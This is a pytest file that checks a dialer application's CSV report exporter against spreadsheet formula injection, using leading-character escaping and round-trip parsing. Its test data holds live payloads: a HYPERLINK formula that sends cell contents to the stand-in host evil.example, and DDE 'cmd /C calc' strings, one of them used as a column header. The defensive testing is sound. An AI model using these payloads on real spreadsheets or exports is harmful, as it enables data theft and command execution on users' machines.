"""Hostile list columns come out of a report inert, and the CSV parses back to them."""

from __future__ import annotations

import csv
import io

import pytest
from sqlalchemy import Engine
from sqlalchemy.orm import Session

from dialer.reports.cells import MAX_CELL, cell, phone_cell, safe_text
from dialer.reports.outcomes import outcomes_report
from dialer.reports.stream import write_csv
from tests.engine.factories import make_campaign, make_recipient
from tests.reports.seed import RECIPIENTS, update

HOSTILE = {
    "formula": '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "plus": "+1+cmd|' /C calc'!A0",
    "minus": "-2+3",
    "at": "@SUM(1+1)",
    "tab": "\t=1+1",
    "cr": "\r=1+1",
    "spaced": "   =1+1",
    "quotes": 'say "hi", then, leave',
    "newlines": "line one\nline two\r\nline three",
    "nul": "a\x00b",
    "huge": "x" * 100_000,
    "plain": "Ann",
    "=cmd|'/C calc'!A0": "header attack",
}


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"), ("+1", "'+1"), ("-1", "'-1"), ("@x", "'@x"), ("\tx", "'\tx"),
        ("\rx", "'\rx"), ("  =x", "'  =x"), ("a=b", "a=b"), ("", ""), ("a\x00b", "ab"),
    ],
)  # fmt: skip
def test_safe_text(value: str, expected: str) -> None:
    assert safe_text(value) == expected


def test_e164_numbers_stay_verbatim_and_anything_else_in_a_number_column_is_neutralised() -> None:
    assert phone_cell("+12125550111") == "+12125550111"
    assert phone_cell("+1+1") == "'+1+1"
    assert phone_cell("=1+1") == "'=1+1"
    assert phone_cell("+1 212 555") == "'+1 212 555"
    assert phone_cell(None) == ""
    assert (cell(-2), cell(1.5), cell(True), cell(None)) == (-2, 1.5, "true", "")


def test_a_huge_value_is_cut_to_what_a_cell_holds() -> None:
    out = safe_text("=" + "x" * 50_000)
    assert len(out) <= MAX_CELL
    assert out.startswith("'=")
    assert out.endswith("…")


def test_hostile_fields_round_trip_safe(engine: Engine) -> None:
    hostile = dict(HOSTILE)
    if engine.dialect.name == "postgresql":  # jsonb refuses NUL, so no list can hold one there
        hostile["nul"] = "ab"
    with Session(engine) as session:
        campaign = make_campaign(session)
        one = make_recipient(session, campaign)
        update(session, RECIPIENTS, one.recipient_id, fields=hostile)
        campaign_id = campaign.id
        session.commit()
    out = io.StringIO(newline="")
    report = outcomes_report(engine, campaign_id)
    write_csv(out, report.header, report.rows)
    header, row = list(csv.reader(io.StringIO(out.getvalue(), newline="")))
    assert len(header) == len(row)
    got = dict(zip(header, row, strict=True))
    for name, value in hostile.items():
        assert got[safe_text(name)] == safe_text(value), name
    assert got["formula"].startswith("'=")
    assert got["tab"] == "'\t=1+1"
    assert got["cr"] == "'\r=1+1"
    assert got["newlines"] == HOSTILE["newlines"]
    assert got["quotes"] == HOSTILE["quotes"]
    assert got["nul"] == "ab"
    assert len(got["huge"]) < MAX_CELL
    assert "'=cmd|'/C calc'!A0" in header
    for text in header + row:
        assert not text.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r")) or (
            text == "+12125550111"
        ), text
